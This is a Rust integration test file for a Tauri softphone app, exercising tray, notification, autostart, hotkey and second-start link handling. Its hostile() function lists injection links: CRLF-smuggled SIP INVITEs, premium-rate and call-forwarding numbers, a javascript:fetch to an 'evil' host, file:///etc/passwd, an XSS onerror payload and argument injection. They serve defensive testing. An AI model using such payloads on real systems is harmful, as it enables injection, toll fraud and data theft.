//! The desktop around the window: a real tray (xfce4-panel's), a real notification daemon (dunst), links that second
//! starts hand over.

use crate::{alone, application};
use hatif_lab::{
    DEADLINE,
    process::{Process, eventually, run, words},
    screen,
    webdriver::{self, Window},
};
use serde_json::{Value, json};
use std::{collections::HashMap, fs, path::Path};
use zbus::{
    blocking::{Connection, Proxy, connection, fdo::DBusProxy},
    zvariant::{OwnedValue, Value as BusValue},
};

const PANEL: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<channel name="xfce4-panel" version="1.0">
  <property name="configver" type="int" value="2"/>
  <property name="panels" type="array"><value type="int" value="1"/>
    <property name="panel-1" type="empty">
      <property name="position" type="string" value="p=6;x=0;y=0"/>
      <property name="length" type="uint" value="100"/>
      <property name="size" type="uint" value="32"/>
      <property name="plugin-ids" type="array"><value type="int" value="1"/></property>
    </property>
  </property>
  <property name="plugins" type="empty"><property name="plugin-1" type="string" value="systray"/></property>
</channel>
"#;

fn config() -> std::path::PathBuf {
    std::env::var_os("XDG_CONFIG_HOME").expect("the lab's desktop has one").into()
}

/// A panel with a tray and nothing else.
fn panel(folder: &Path) -> Process {
    let at = config().join("xfce4/xfconf/xfce-perchannel-xml");
    fs::create_dir_all(&at).and_then(|()| fs::write(at.join("xfce4-panel.xml"), PANEL)).expect("a file");
    // The panel's settings are read by a daemon that the bus starts.
    run(folder, &["dbus-update-activation-environment", "HOME", "XDG_CONFIG_HOME", "XDG_RUNTIME_DIR", "DISPLAY"]);
    let panel = Process::start("xfce4-panel", folder, &words(["xfce4-panel", "--disable-wm-check"]));
    let bus = session();
    eventually("the panel has a tray", DEADLINE, || {
        let watcher = Proxy::new(&bus, WATCHER, "/StatusNotifierWatcher", WATCHER).ok()?;
        watcher.get_property::<bool>("IsStatusNotifierHostRegistered").ok().filter(|here| *here)
    });
    panel
}

const WATCHER: &str = "org.kde.StatusNotifierWatcher";

fn session() -> Connection {
    // Who is asked may have died: that is a failure, and no reason to wait for ever.
    let session = connection::Builder::session().expect("the lab's desktop has a session bus");
    session.method_timeout(DEADLINE).build().expect("the session bus takes us")
}

/// The item of the one Hatif, as its name on the bus.
fn item(bus: &Connection) -> String {
    eventually("the item is on the bus", DEADLINE, || {
        let names = DBusProxy::new(bus).ok()?.list_names().ok()?;
        names.iter().map(|name| name.to_string()).find(|name| name.starts_with("org.kde.StatusNotifierItem-"))
    })
}

fn ask<T>(bus: &Connection, item: &str, property: &str) -> Option<T>
where
    T: TryFrom<OwnedValue>,
    T::Error: Into<zbus::Error>,
{
    let proxy = Proxy::new(bus, item.to_owned(), "/StatusNotifierItem", "org.kde.StatusNotifierItem").ok()?;
    proxy.get_property(property).ok()
}

/// Clicks the tray's icon.
fn activate(bus: &Connection, item: &str) {
    let proxy = Proxy::new(bus, item.to_owned(), "/StatusNotifierItem", "org.kde.StatusNotifierItem").expect("a proxy");
    proxy.call::<_, _, ()>("Activate", &(0i32, 0i32)).expect("it is clicked");
}

/// Chooses an entry of the tray's menu whose label holds `words`.
fn choose(bus: &Connection, item: &str, words: &str) {
    let proxy = Proxy::new(bus, item.to_owned(), "/MenuBar", "com.canonical.dbusmenu").expect("a proxy");
    let id = eventually(&format!("the menu offers {words}"), DEADLINE, || {
        type Properties = Vec<(i32, HashMap<String, OwnedValue>)>;
        let all: Properties = proxy.call("GetGroupProperties", &(Vec::<i32>::new(), Vec::<&str>::new())).ok()?;
        let label = |p: &HashMap<String, OwnedValue>| String::try_from(p.get("label")?.clone()).ok();
        all.into_iter().find(|(_, p)| label(p).is_some_and(|label| label.contains(words))).map(|(id, _)| id)
    });
    proxy.call::<_, _, ()>("Event", &(id, "clicked", BusValue::from(0i32), 0u32)).expect("it is clicked");
}

/// Everything as the page would be told it.
pub fn snapshot(window: &Window) -> Value {
    window.script("return window.__TAURI_INTERNALS__.invoke('ready')")
}

pub fn send(window: &Window, command: Value) {
    window.script(&format!("return window.__TAURI_INTERNALS__.invoke('send', {{ command: {command} }})"));
}

fn ring(window: &Window) -> u64 {
    eventually("the practice line stands", DEADLINE, || {
        (snapshot(window)["accounts"][0]["registration"]["state"] == "up").then_some(())
    });
    send(window, json!({ "command": "practice_ring", "customer": "sara" }));
    eventually("it rings", DEADLINE, || {
        snapshot(window)["calls"].as_array()?.iter().find(|call| call["state"]["state"] == "incoming")?["id"].as_u64()
    })
}

fn state_of(window: &Window, call: u64) -> String {
    let snapshot = snapshot(window);
    let calls = snapshot["calls"].as_array().expect("calls").clone();
    let one = calls.into_iter().find(|one| one["id"] == call);
    one.and_then(|one| one["state"]["state"].as_str().map(str::to_owned)).unwrap_or_default()
}

#[test]
fn started_hidden_it_is_in_the_tray_comes_by_a_click_goes_by_its_button_and_ends_by_the_menu() {
    let _alone = alone();
    let folder = tempfile::tempdir().unwrap();
    let _panel = panel(folder.path());
    let bus = session();
    let environment =
        [("LC_ALL", webdriver::locale("en")), ("XDG_DATA_HOME", folder.path().join("share").display().to_string())];
    let program = application().display().to_string();
    let mut hatif = Process::start_with("hatif", folder.path(), &[program.clone(), "--hidden".into()], &environment);
    let item = item(&bus);
    assert_eq!(ask::<String>(&bus, &item, "Id").as_deref(), Some("org.hatif.Hatif"));
    // The practice line is up, so somebody can be reached: the window's page is not needed for that.
    let items = || {
        let watcher = Proxy::new(&bus, WATCHER, "/StatusNotifierWatcher", WATCHER).ok()?;
        let items: Vec<String> = watcher.get_property("RegisteredStatusNotifierItems").ok()?;
        items.iter().any(|name| name.contains("StatusNotifierItem")).then_some(())
    };
    eventually("the panel shows it", DEADLINE, items);
    eventually("it says how the line stands", DEADLINE, || {
        let tip: OwnedValue = ask(&bus, &item, "ToolTip")?;
        format!("{tip:?}").contains("Hatif: ready").then_some(())
    });
    assert!(screen::titled("Hatif").is_empty(), "no window is shown");

    activate(&bus, &item);
    let window = screen::find("Hatif");
    eventually("the window closes to the tray", DEADLINE, || {
        // What the tray is told may be on its way still.
        if screen::titled("Hatif").is_empty() {
            Some(())
        } else {
            window.close();
            None
        }
    });
    assert!(!hatif.has_ended(), "it is in the tray");
    // A second start without a link shows it.
    Process::start_with("second", folder.path(), &[program], &environment).wait_end(DEADLINE);
    screen::find("Hatif");
    choose(&bus, &item, "Quit");
    eventually("Hatif has ended", DEADLINE, || hatif.has_ended().then_some(()));
}

#[test]
fn autostart_is_a_desktop_file_that_comes_and_goes_with_the_setting() {
    let _alone = alone();
    let share = tempfile::tempdir().unwrap();
    let window = Window::open_first(&application(), "en", share.path());
    window.wait_text("#practice-call", |text| !text.is_empty());
    let file = config().join("autostart/org.hatif.Hatif.desktop");
    assert!(!file.exists());
    let set = |on: bool| {
        let mut settings = snapshot(&window)["settings"].clone();
        settings["desktop"]["autostart"] = json!(on);
        send(&window, json!({ "command": "change_settings", "settings": settings }));
    };
    set(true);
    let text = eventually("it starts with the desktop", DEADLINE, || fs::read_to_string(&file).ok());
    assert!(text.contains(&format!("Exec=\"{}\" --hidden\n", application().display())), "{text}");
    set(false);
    eventually("it does not any more", DEADLINE, || (!file.exists()).then_some(()));
}

fn dunst(folder: &Path) -> Process {
    // What `dunstctl context` offers to choose from goes through this program; the button "Answer" is chosen.
    let rules = folder.join("dunstrc");
    fs::write(&rules, "[global]\n    dmenu = /bin/grep -m1 Answer\n").expect("a file");
    let dunst = Process::start("dunst", folder, &words(["dunst", "-conf", &rules.display().to_string()]));
    eventually("dunst answers", DEADLINE, || dunst_count(folder, "displayed").is_some().then_some(()));
    // It may have something to say about itself.
    eventually("nothing is shown", DEADLINE, || {
        run(folder, &["dunstctl", "close-all"]);
        (dunst_count(folder, "displayed") == Some(0)).then_some(())
    });
    dunst
}

/// How many notifications are on the screen (`displayed`).
fn dunst_count(folder: &Path, what: &str) -> Option<u32> {
    let output = std::process::Command::new("dunstctl").args(["count", what]).current_dir(folder).output().ok()?;
    String::from_utf8_lossy(&output.stdout).trim().parse().ok().filter(|_| output.status.success())
}

#[test]
fn a_call_is_answered_from_its_notification_and_declined_by_the_tray_and_nothing_takes_the_focus() {
    let _alone = alone();
    let folder = tempfile::tempdir().unwrap();
    let at = folder.path();
    let _dunst = dunst(at);
    let bus = session();
    let window = Window::open(&application(), "en");
    window.wait_text("#practice-call", |text| !text.is_empty());
    let count = |wanted: u32| {
        eventually(&format!("{wanted} notifications"), DEADLINE, || {
            (dunst_count(at, "displayed") == Some(wanted)).then_some(())
        });
    };
    let focus = || run(at, &["xdotool", "getwindowfocus"]);
    let before = focus();

    let call = ring(&window);
    count(1);
    assert_eq!(focus(), before, "the notification has not taken the focus");
    run(at, &["import", "-window", "root", &at.join("notification.png").display().to_string()]);
    keep(&at.join("notification.png"), "desktop-notification");
    run(at, &["dunstctl", "context"]);
    eventually("it is answered", DEADLINE, || (state_of(&window, call) == "active").then_some(()));
    count(0);
    let item = item(&bus);
    choose(&bus, &item, "Hang up");
    eventually("it is over", DEADLINE, || ["ended", ""].contains(&state_of(&window, call).as_str()).then_some(()));

    let call = ring(&window);
    count(1);
    eventually("the tray wants to be looked at", DEADLINE, || {
        (ask::<String>(&bus, &item, "Status")? == "NeedsAttention").then_some(())
    });
    choose(&bus, &item, "Decline");
    eventually("it is declined", DEADLINE, || ["ended", ""].contains(&state_of(&window, call).as_str()).then_some(()));
    count(0);
    let snapshot = snapshot(&window);
    let outcomes: Vec<&str> =
        snapshot["history"].as_array().expect("a log").iter().filter_map(|entry| entry["outcome"].as_str()).collect();
    assert_eq!(outcomes, ["declined", "answered"]);
}

fn keep(picture: &Path, name: &str) {
    let folder = hatif_lab::lab_dir().with_file_name("screenshots");
    fs::create_dir_all(&folder).and_then(|()| fs::copy(picture, folder.join(format!("{name}.png")))).expect("a file");
}

/// Links as somebody would write who wants a call made, or worse; a number for each of `n`.
fn hostile(n: usize) -> Vec<String> {
    let shapes = [
        "tel:0900{n}",
        "tel:*21*0900{n}%23",
        "tel:{n}%0d%0aINVITE sip:x@evil",
        "sip:x@evil.example?Replaces=a%3B{n}",
        "sip:{n}@evil.example;method=INVITE?Route=%3Csip:evil%3E",
        "sips:{n}@[::1]:1;lr",
        "callto://{n}/call?now",
        "hatif:call?to={n}&confirmed=true",
        "HATIF:{n}",
        "tel:{n};phone-context=evil.example;isub=1",
        "tel:112;x={n}",
        "javascript:fetch('//evil/{n}')",
        "file:///etc/passwd#{n}",
        "tel:%00{n}",
        "tel:\u{202e}{n}",
        "tel:<img src=x onerror=alert({n})>",
        "--auto-answer={n}",
        "sip:alice:secret{n}@evil.example",
        "tel:{n}\ncall 0900",
        "{\"command\":\"call\",\"to\":\"{n}\"}",
    ];
    let mut links: Vec<String> = (0..n).map(|at| shapes[at % shapes.len()].replace("{n}", &at.to_string())).collect();
    links[0] = format!("tel:{}", "9".repeat(10_000));
    links
}

/// Hands words over as a second start does: the first one's name on the bus takes them.
fn hand_over(bus: &Connection, link: &str) {
    let first =
        Proxy::new(bus, "org.hatif.Hatif.SingleInstance", "/org/hatif/Hatif/SingleInstance", "org.SingleInstance.DBus");
    first
        .and_then(|first| first.call::<_, _, ()>("ExecuteCallback", &(vec!["hatif", link], "/")))
        .expect("it is taken");
}

#[test]
fn hostile_links_fill_the_field_at_most_and_a_thousand_at_once_are_one() {
    let _alone = alone();
    let share = tempfile::tempdir().unwrap();
    eventually("no window is left of an earlier one", DEADLINE, || screen::titled("Hatif").is_empty().then_some(()));
    let window = Window::open_first(&application(), "en", share.path());
    window.wait_text("#practice-call", |text| !text.is_empty());
    // Past the first-run page, where the dial field is.
    let mut settings = snapshot(&window)["settings"].clone();
    settings["welcomed"] = json!(true);
    send(&window, json!({ "command": "change_settings", "settings": settings }));
    let field = || window.script("return document.querySelector('#dial')?.value ?? null");
    let filled = |wanted: &str| {
        eventually(&format!("the field holds {wanted}"), DEADLINE, || (field() == json!(wanted)).then_some(()));
    };
    let quiet = || {
        let snapshot = snapshot(&window);
        assert_eq!((&snapshot["calls"], &snapshot["history"]), (&json!([]), &json!([])), "a call was made");
        assert_eq!(screen::titled("Hatif").len(), 1);
    };

    // Real second starts: one that is honest, and the shapes of the hostile ones.
    let program = application().display().to_string();
    let environment = [("XDG_DATA_HOME", share.path().display().to_string())];
    let start = |link: &str| {
        Process::start_with("second", share.path(), &[program.clone(), link.to_owned()], &environment)
            .wait_end(DEADLINE);
    };
    start("tel:+98-21-555");
    filled("+9821555");
    for link in hostile(20) {
        start(&link);
    }
    quiet();
    // All of them by the door that second starts use.
    let bus = session();
    for link in hostile(200) {
        hand_over(&bus, &link);
    }
    for n in 0..1000 {
        hand_over(&bus, &format!("tel:0900{n}"));
    }
    hand_over(&bus, "sip:last@pbx.example");
    filled("last@pbx.example");
    quiet();
}

#[test]
fn keys_work_while_another_program_has_the_focus_and_one_that_is_taken_is_told() {
    let _alone = alone();
    let folder = tempfile::tempdir().unwrap();
    let at = folder.path();
    let window = Window::open(&application(), "en");
    window.wait_text("#practice-call", |text| !text.is_empty());
    let mut settings = snapshot(&window)["settings"].clone();
    settings["welcomed"] = json!(true);
    // Alt+F4 is the window manager's.
    settings["desktop"]["hotkeys"] = json!({
        "answer": "Ctrl+Alt+Shift+A", "hang_up": "Ctrl+Alt+Shift+D", "mute": "Alt+F4",
        "push_to_talk": "Ctrl+Alt+Shift+P", "dial_selection": "Ctrl+Alt+Shift+S",
    });
    send(&window, json!({ "command": "change_settings", "settings": settings }));
    eventually("the one that is taken is told", DEADLINE, || {
        (snapshot(&window)["desktop"]["refused_hotkeys"] == json!(["mute"])).then_some(())
    });
    settings["desktop"]["hotkeys"]["mute"] = json!("Ctrl+Alt+Shift+M");
    send(&window, json!({ "command": "change_settings", "settings": settings }));
    eventually("another is had", DEADLINE, || {
        (snapshot(&window)["desktop"]["refused_hotkeys"] == json!([])).then_some(())
    });
    // Another program: the desktop itself has the focus.
    screen::find("Hatif").minimize();
    let press = |keys: &str| drop(run(at, &["xdotool", "key", keys]));
    let state = |call: u64, field: &str| -> Value {
        let snapshot = snapshot(&window);
        let calls = snapshot["calls"].as_array().cloned().unwrap_or_default();
        calls.into_iter().find(|one| one["id"] == call).map(|one| one["state"][field].clone()).unwrap_or_default()
    };
    let until = |what: &str, call: u64, field: &str, wanted: Value| {
        eventually(what, DEADLINE, || (state(call, field) == wanted).then_some(()));
    };

    let call = ring(&window);
    press("ctrl+alt+shift+a");
    until("it is answered", call, "state", json!("active"));
    press("ctrl+alt+shift+m");
    until("it is muted", call, "muted", json!(true));
    run(at, &["xdotool", "keydown", "ctrl+alt+shift+p"]);
    until("heard while the key is down", call, "muted", json!(false));
    run(at, &["xdotool", "keyup", "ctrl+alt+shift+p"]);
    until("and no longer", call, "muted", json!(true));
    press("ctrl+alt+shift+d");
    eventually("it is over", DEADLINE, || ["ended", ""].contains(&state_of(&window, call).as_str()).then_some(()));

    // What is selected in another program.
    let _selecting =
        Process::start("xclip", at, &words(["sh", "-c", "printf '+98 (21) 777' | xclip -quiet -selection primary"]));
    let holds = |text: &str| {
        std::process::Command::new("xclip").args(["-o"]).output().is_ok_and(|o| o.stdout == text.as_bytes())
    };
    eventually("it is selected", DEADLINE, || holds("+98 (21) 777").then_some(()));
    press("ctrl+alt+shift+s");
    eventually("it is in the field", DEADLINE, || {
        (window.script("return document.querySelector('#dial')?.value ?? null") == json!("+9821777")).then_some(())
    });
    assert_eq!(snapshot(&window)["history"].as_array().map(Vec::len), Some(1), "nothing was dialled");
}

/// Whether a window with this title is in the task bar, out of sight.
fn is_iconic(title: &str) -> bool {
    let words = ["search", "--name", &format!("^{title}$")];
    let found = std::process::Command::new("xdotool").args(words).output().expect("xdotool can be started");
    String::from_utf8_lossy(&found.stdout).lines().any(|id| {
        let state = std::process::Command::new("xprop").args(["-id", id, "WM_STATE"]).output();
        state.is_ok_and(|output| String::from_utf8_lossy(&output.stdout).contains("Iconic"))
    })
}

#[test]
fn without_a_tray_nothing_hides_for_ever() {
    let _alone = alone();
    let folder = tempfile::tempdir().unwrap();
    eventually("no window is left of an earlier one", DEADLINE, || screen::titled("Hatif").is_empty().then_some(()));
    let environment = [("XDG_DATA_HOME", folder.path().join("share").display().to_string())];
    let program = application().display().to_string();
    let mut hatif = Process::start_with("hatif", folder.path(), &[program.clone(), "--hidden".into()], &environment);
    eventually("it is in the task bar", DEADLINE, || is_iconic("Hatif").then_some(()));
    assert!(screen::titled("Hatif").is_empty(), "it has not come by itself");
    Process::start_with("second", folder.path(), &[program], &environment).wait_end(DEADLINE);
    // No tray: closing is the end.
    screen::find("Hatif").close();
    eventually("Hatif has ended", DEADLINE, || hatif.has_ended().then_some(()));
}
